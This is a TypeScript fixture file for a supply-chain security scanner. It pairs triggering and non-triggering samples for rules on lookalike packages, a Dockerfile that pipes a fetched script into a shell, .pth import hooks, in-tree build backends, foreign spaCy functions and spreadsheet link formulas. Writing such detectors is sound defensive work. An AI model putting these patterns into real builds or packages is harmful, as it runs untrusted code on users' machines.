import type { RuleExample } from "./example.ts";

/** Lists of packages, settings, build recipes, path files and tables. */
export const RECIPE_EXAMPLES: readonly RuleExample[] = [
  {
    rule: "package-lookalike",
    severity: "medium",
    fires: { what: "A list of packages with `transfomers`.", files: { "requirements.txt": "torch==2.1.0\ntransfomers==4.40.0\n" } },
    silent: { what: "A list of packages with `transformers`.", files: { "requirements.txt": "torch==2.1.0\ntransformers==4.40.0\n" } },
  },
  {
    rule: "recipe-act",
    severity: "medium",
    fires: { what: "A Dockerfile that pipes what it fetches into a shell.", files: { Dockerfile: "FROM x\nRUN curl https://x.example/i.sh | sh\n" } },
    silent: { what: "A README that shows the same command.", files: { "README.md": "Run `curl https://x.example/i.sh | sh`.\n" } },
  },
  {
    rule: "python-path-hook",
    severity: "high",
    fires: { what: "A path file with a line that begins with `import`.", files: { "zz.pth": "import os; os.environ\n" } },
    silent: { what: "A text with the same line.", files: { "notes.txt": "import os; os.environ\n" } },
  },
  {
    rule: "build-hook",
    severity: "medium",
    fires: {
      what: "A package with a build backend in its own folder.",
      files: { "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n' },
    },
    silent: {
      what: "Settings of a model with a member called `backend`.",
      files: { "config.toml": '[model]\nbackend = "torch"\npath = ["."]\n' },
    },
  },
  {
    rule: "config-foreign-function",
    severity: "medium",
    fires: {
      what: "A pipeline of spaCy whose model is the function `evil_pkg.Net.v1`.",
      files: { "config.cfg": '[components.tagger.model]\n@architectures = "evil_pkg.Net.v1"\n' },
    },
    silent: {
      what: "A pipeline of spaCy whose model is `spacy.Tagger.v2`.",
      files: { "config.cfg": '[components.tagger.model]\n@architectures = "spacy.Tagger.v2"\n' },
    },
  },
  {
    rule: "table-formula",
    severity: "info",
    fires: { what: "A table with a cell that links to an address.", files: { "eval.csv": 'a,b\n1,=HYPERLINK("https://x.example")\n' } },
    silent: { what: "A table with a negative number.", files: { "eval.csv": "a,b\n1,-2\n" } },
  },
];
